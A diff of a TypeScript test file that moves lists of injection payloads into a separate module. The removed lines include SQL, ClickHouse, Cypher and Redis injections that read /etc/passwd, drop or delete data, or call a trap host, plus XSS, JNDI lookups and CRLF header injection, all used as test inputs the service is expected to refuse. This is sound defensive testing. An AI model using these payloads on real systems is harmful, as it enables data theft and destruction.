@@ -1,6 +1,7 @@
 import { createServer, type Server } from 'node:http';
 import { z } from 'zod';
 import { readDocument } from '../fuzz/read-document.ts';
+import { forbidden, hostile } from './cases/hostile-texts.ts';
 import { answerLimitMs, askInTime } from './expect-refused.ts';
 import { type OpenService, openService, someEvent } from './open-service.ts';
 import { readStringParameters, type StringParameter } from './read-string-parameters.ts';
@@ -31,53 +32,6 @@ const seed = [
 ];
 
 const trapAt = () => `http://127.0.0.1:${trapPort.parse(trap.address()).port}`;
-
-/** What would do something if it ever became part of a statement's text. */
-const hostile: Array<[name: string, text: string]> = [
-  ['a single quote', "'"],
-  ['a double quote', '"'],
-  ['a backtick', '`'],
-  ['a backslash', '\\'],
-  ['a backslash before a quote', "\\'"],
-  ['a quote doubled', "''"],
-  ['a condition that always holds', "' OR '1'='1"],
-  ['a second statement', "'; DROP TABLE events; --"],
-  ['a union', "' UNION ALL SELECT password FROM system.users --"],
-  ['a line comment', 'root -- '],
-  ['a block comment', 'root/*'],
-  ['a Cypher comment', 'root // '],
-  ['settings', "root' SETTINGS readonly=0, max_execution_time=0"],
-  ['a format', "root' FORMAT Native"],
-  ['a parameter of ClickHouse', '{rootId:String}'],
-  ['a parameter of Cypher', '$postId'],
-  ['a wildcard', '%'],
-  ['a pattern', '.*'],
-  ['a subquery', '(SELECT postId FROM posts LIMIT 1)'],
-  ['url()', "' AND (SELECT count() FROM url('TRAP/url', 'RawBLOB', 's String')) > 0 --"],
-  ['remote()', "' AND (SELECT count() FROM remote('TRAP', system.one)) > 0 --"],
-  ['file()', "' AND (SELECT count() FROM file('/etc/passwd', 'RawBLOB', 's String')) > 0 --"],
-  ['sleep()', "' AND sleepEachRow(3) --"],
-  ['LOAD CSV', "'}) LOAD CSV FROM 'TRAP/csv' AS row RETURN row //"],
-  ['a deletion in Cypher', "'}) DETACH DELETE post //"],
-  ['a call in Cypher', "'}) CALL dbms.listConfig() YIELD name RETURN name //"],
-  ['a property in Cypher', "x'})-[:SHARED_FROM]->(other {id: 'root"],
-  ['a label in backticks', '`:Account`'],
-  ['ClickHouse’s escapes', '\\N\\t\\x00\\0'],
-  ['a script', '<script>alert(1)</script>'],
-  ['a Redis command', 'x FLUSHALL'],
-  ['Lua', '") redis.call("FLUSHALL") --'],
-  ['a template', '#{7*7}{{7*7}}'],
-  ['a lookup', '{jndi:ldap://TRAP/a}'],
-];
-
-/** What no parameter takes, wherever it stands: the address itself is refused. */
-const forbidden: Array<[name: string, encoded: string]> = [
-  ['a line feed', 'a%0ab'],
-  ['CR LF', 'a%0d%0aX-Injected:%20yes'],
-  ['NUL', 'root%00'],
-  ['an escape character', '%1b%5b31m'],
-  ['a C1 control', '%c2%85'],
-];
 
 /**
  * Every parameter of the document that is text and has no closed list of values. A new one has to be written here, and
